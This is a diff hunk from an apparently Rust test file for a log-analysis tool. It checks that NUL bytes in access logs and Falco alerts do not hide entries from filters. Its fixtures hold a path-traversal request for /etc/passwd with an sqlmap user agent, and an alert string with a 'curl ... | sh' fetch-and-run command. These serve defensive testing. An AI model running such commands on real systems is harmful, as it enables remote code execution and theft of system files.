@@ -365,7 +365,7 @@ fn a_nul_byte_in_a_log_line_hides_nothing_from_the_lists_json_or_filters() {
     }
     assert_eq!(json("path:*/c").len(), 0, "the part before the NUL is not the value");
     let (_, out, _) = rampart(&db, &["access", "list", "--filter", "sqlmap"], None);
-    assert_eq!(out.lines().count(), 2, "{out}");
+    assert_eq!(out.lines().count(), 3, "a header and two rows:\n{out}");
     assert!(out.contains("/c^@/../../etc/passwd  Mozilla/5.0^@ sqlmap/1.7"), "the NUL shown, the rest too:\n{out}");
     // Falco output with an escaped NUL in it.
     let alert = r#"{"output":"shell spawned\u0000; curl http://198.51.100.66/x | sh","priority":"Critical","rule":"Terminal shell in container","time":"2026-11-26T11:00:00Z","output_fields":{}}"#;
